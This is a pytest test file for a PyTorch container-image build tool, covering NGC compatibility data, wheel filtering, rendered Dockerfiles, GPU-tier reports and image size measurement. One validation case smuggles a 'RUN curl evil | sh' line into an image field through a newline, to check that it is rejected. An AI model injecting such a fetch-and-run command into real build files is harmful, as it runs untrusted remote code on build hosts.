"""What the flagship builds rely on, without an engine: extra NGC facts, the wheelhouse split, the rendered
run commands, the build-time Python choice and the report's GPU tiers."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from torchimages.build import render
from torchimages.build.inputs import BuildInputs
from torchimages.build.sizes import MEASURE, FloorMeter, floor_bytes, measured
from torchimages.build.stage import known_floors
from torchimages.input import compat
from torchimages.report import ImageRecord, Report
from torchimages.verify.smoke import SmokeResult, parse_junit

from ..conftest import ROOT, build_py, digest, golden_plan
from ..fake_engine import FakeEngine

NGC_DATA = ROOT / "tests" / "integration" / "data"


def cli(*args: str, extra: Path | str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, **{compat.EXTRA_ENV: str(extra)})
    return build_py(*args, env=env, timeout=60)


def test_extra_ngc_rows_are_used_with_a_warning() -> None:
    result = cli("validate", "--matrix", str(NGC_DATA / "ngc-shaped.matrix.yaml"), extra=NGC_DATA / "ngc-shaped.compat.yaml")
    assert result.returncode == 0, result.stderr
    assert "valid: 1 entries, 3 images" in result.stdout
    assert "NGC test: facts from" in result.stderr and "not the reviewed compat data" in result.stderr


def test_without_the_extra_rows_the_test_release_is_unknown() -> None:
    result = build_py("validate", "--matrix", str(NGC_DATA / "ngc-shaped.matrix.yaml"), timeout=60,
                      env={k: v for k, v in os.environ.items() if k != compat.EXTRA_ENV})
    assert result.returncode == 2 and "unknown NGC PyTorch release 'test'" in result.stderr, result.stderr


ROW = ("ngc:\n- release: test\n  image: torchimages/ngc-shaped:test\n  pytorch: 2.3.1+cu121\n  cuda: 12.1.1\n"
       "  cudnn: 8.9.2.26\n  nccl: 2.20.5\n  python: '3.11'\n  sources:\n  - x\n")


@pytest.mark.parametrize(("content", "message"), [
    (None, "cannot read it"),
    ("ngc: [\n", "cannot read it"),
    ("torch: []\n", "must hold only 'ngc'"),
    ("ngc:\n- {release: x, image: y}\n", "ngc[0] (x): field 'pytorch': is missing"),
    (ROW.replace("image: torchimages/ngc-shaped:test", 'image: "torchimages/ngc-shaped:test\\nRUN curl evil | sh"'),
     "field 'image': holds the control or invisible character U+000A"),
    (ROW.replace("python: '3.11'", "python: 3.10"), "field 'python': must be a string"),
    (ROW.replace("cudnn: 8.9.2.26", "cudnn: 8.9.2.26 evil"), "field 'cudnn': '8.9.2.26 evil' is not a version"),
    (ROW + "  extra: 1\n", "field 'extra': is not a field"),
    (ROW.replace("sources:\n  - x", "sources: []"), "field 'sources': must be a list"),
    ("ngc: " + "[" * 5000 + "]" * 5000 + "\n", "cannot read it: nested too deeply"),
])
def test_unusable_extra_file_exits_2_without_a_traceback(tmp_path: Path, content: str | None, message: str) -> None:
    extra = tmp_path / "extra.yaml"
    if content is not None:
        extra.write_text(content)
    result = cli("validate", extra=extra)
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


def test_torch_stack_wheels_go_only_into_builds_that_install_torch(tmp_path: Path) -> None:
    wheelhouse = tmp_path / "wheels"
    wheelhouse.mkdir()
    names = ["torch-2.3.1-cp311-cp311-manylinux1_x86_64.whl", "triton-2.3.1-cp311-cp311-manylinux2014_x86_64.whl",
             "nvidia_cudnn_cu12-8.9.2.26-py3-none-manylinux1_x86_64.whl", "torchvision-0.18.1-cp311-cp311-linux_x86_64.whl",
             "jupyterlab-4.6.6-py3-none-any.whl", "numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl"]
    for name in names:
        (wheelhouse / name).write_bytes(b"w")
    inputs = BuildInputs(wheelhouse=wheelhouse, offline=True)
    for installs_torch in (True, False):
        context = tmp_path / f"context-{installs_torch}"
        (context / "build-config" / "wheelhouse").mkdir(parents=True)
        inputs.fill_context(context, installs_torch=installs_torch)
        got = sorted(p.name for p in (context / "build-config" / "wheelhouse").glob("*.whl"))
        dropped = {"torch-", "triton-", "nvidia_cudnn"}
        want = sorted(n for n in names if installs_torch or not n.startswith(tuple(dropped)))
        assert got == want


def test_run_commands_are_configured_in_the_image_not_in_flags(tmp_path: Path) -> None:
    contexts = {c.image: c for c in render.contexts(golden_plan(), "v1")}
    jupyter = contexts["cpu-tiny-jupyter"].files
    assert 'CMD ["jupyter", "lab"]' in jupyter["Dockerfile"]
    assert "COPY jupyter/jupyter_server_config.py /etc/jupyter/jupyter_server_config.py" in jupyter["Dockerfile"]
    assert 'jupyter labextension disable --level=system "@jupyterlab/apputils-extension:announcements"' in jupyter["Dockerfile"]
    config = jupyter["jupyter/jupyter_server_config.py"]
    assert 'c.ServerApp.ip = "0.0.0.0"' in config and "/workspace" in config and "allow_root = False" in config
    entrypoint = contexts["cpu-tiny"].files["image/torchimages-entrypoint"]
    assert "sshd | /usr/sbin/sshd)" in entrypoint and "exec start-sshd" in entrypoint


def test_python_is_chosen_while_building_not_while_rendering() -> None:
    contexts = {c.image: c.files["Dockerfile"] for c in render.contexts(golden_plan(), "v1")}
    for image, python in (("torch2.3.1-cu121-cudnn8.9-py3.11", "3.11"), ("cpu-tiny", "3.12")):
        dockerfile = contexts[image]
        assert f'{python}.*) os_python="python3 python3-venv python3-dev"' in dockerfile, image
        assert f'= "{python}" ]; then' in dockerfile and f"uv venv --seed --python {python} /opt/venv" in dockerfile


def test_report_says_which_gpu_checks_were_proven_without_a_gpu(tmp_path: Path) -> None:
    junit = tmp_path / "junit.xml"
    junit.write_text(
        '<testsuites><testsuite name="pytest">'
        '<testcase classname="tests.smoke.test_gpu_ready" name="test_every_cuda_library_loads[docker://abc]">'
        '<properties><property name="tier" value="gpu-ready" /></properties></testcase>'
        '<testcase classname="tests.smoke.test_gpu" name="test_nccl_all_reduce[docker://abc]">'
        '<properties><property name="tier" value="needs-gpu" /></properties>'
        '<skipped message="no GPU given to the container" /></testcase>'
        '<testcase classname="tests.smoke.test_versions" name="test_python[docker://abc]" />'
        '</testsuite></testsuites>')
    checks = parse_junit(junit)
    assert [(c.name, c.outcome, c.tier) for c in checks] == [
        ("test_gpu_ready::test_every_cuda_library_loads", "passed", "gpu-ready"),
        ("test_gpu::test_nccl_all_reduce", "skipped", "needs-gpu"), ("test_versions::test_python", "passed", "")]
    result = SmokeResult("img", "tag", checks=checks)
    assert result.tiers_summary() == ("proven without a GPU: 1 passed, 0 failed, 0 skipped; "
                                      "needs a GPU: 0 passed, 0 failed, 1 skipped")
    report = Report("v1", "matrix.yaml", [ImageRecord("img", "img", "base", "tag", "built", {}, size_bytes=1050,
                                                      floor_bytes=1000, smoke=result.record())])
    markdown = report.to_markdown()
    assert "| img | 1 passed, 0 failed, 0 skipped | 0 passed, 0 failed, 1 skipped |" in markdown
    assert "| 1.050 |" in markdown


def test_a_no_op_rebuild_reuses_the_floors_of_the_last_report(tmp_path: Path) -> None:
    path = tmp_path / "build-report.json"
    Report("v1", "matrix.yaml", [ImageRecord("img", "img", "base", "tag", "built", {}, image_id=digest("aa"),
                                             floor_bytes=1234)]).write(path)
    meter = FloorMeter(engine=None, known=known_floors(path))  # no engine: a measurement would fail
    assert meter.floor("tag", "debian", image_id=digest("aa")) == 1234
    assert known_floors(tmp_path / "missing.json") == {}
    (tmp_path / "broken.json").write_text("{")
    assert known_floors(tmp_path / "broken.json") == {}


def test_the_floor_is_the_os_base_plus_what_was_installed_each_file_once() -> None:
    # a 100 MB base whose dpkg counts 80 MB; the image's dpkg counts 380 MB and its venv 5 GB
    assert floor_bytes(100_000_000, 80_000_000, 380_000_000, 5_000_000_000) == 5_400_000_000
    assert floor_bytes(100, 80, 80, 0) == 100  # nothing installed: the base itself


@pytest.mark.parametrize(("output", "counts"), [("1024\n2048\n", (1024, 2048)), ("0\n0", (0, 0))])
def test_the_measurement_is_two_byte_counts(output: str, counts: tuple[int, int]) -> None:
    assert measured(output) == counts


@pytest.mark.parametrize("output", ["", "1024\n", "1024\n2048\n4096\n", "-5\n10\n", "du: cannot access\n10\n"])
def test_a_measurement_that_is_not_two_byte_counts_is_no_floor(output: str) -> None:
    with pytest.raises(ValueError, match="not two byte counts"):
        measured(output)


def test_the_floor_meter_measures_the_os_base_once_and_the_image_as_root() -> None:
    engine = FakeEngine(images={"debian": {"Size": 100_000_000}})
    meter = FloorMeter(engine.engine)
    engine.runs[MEASURE] = (0, b"80000000\n0\n")  # the OS base: its dpkg bytes, no Python folders
    assert meter.floor("img", "debian") == 100_000_000  # measured against itself: nothing installed
    engine.runs[MEASURE] = (0, b"380000000\n5000000000\n")  # the image: its dpkg and its venv
    assert meter.floor("img", "debian") == 100_000_000 + 300_000_000 + 5_000_000_000
    assert len(engine.created) == 3, "the OS base is measured once"
    engine.runs[MEASURE] = (1, b"du: broken\n")
    assert meter.floor("img", "debian") is None, "a failed measurement is no floor"
    assert meter.floor("img", "no-such-base") is None
    assert engine.removed == [f"c{i}" for i in range(1, len(engine.created) + 1)], "every container is removed"
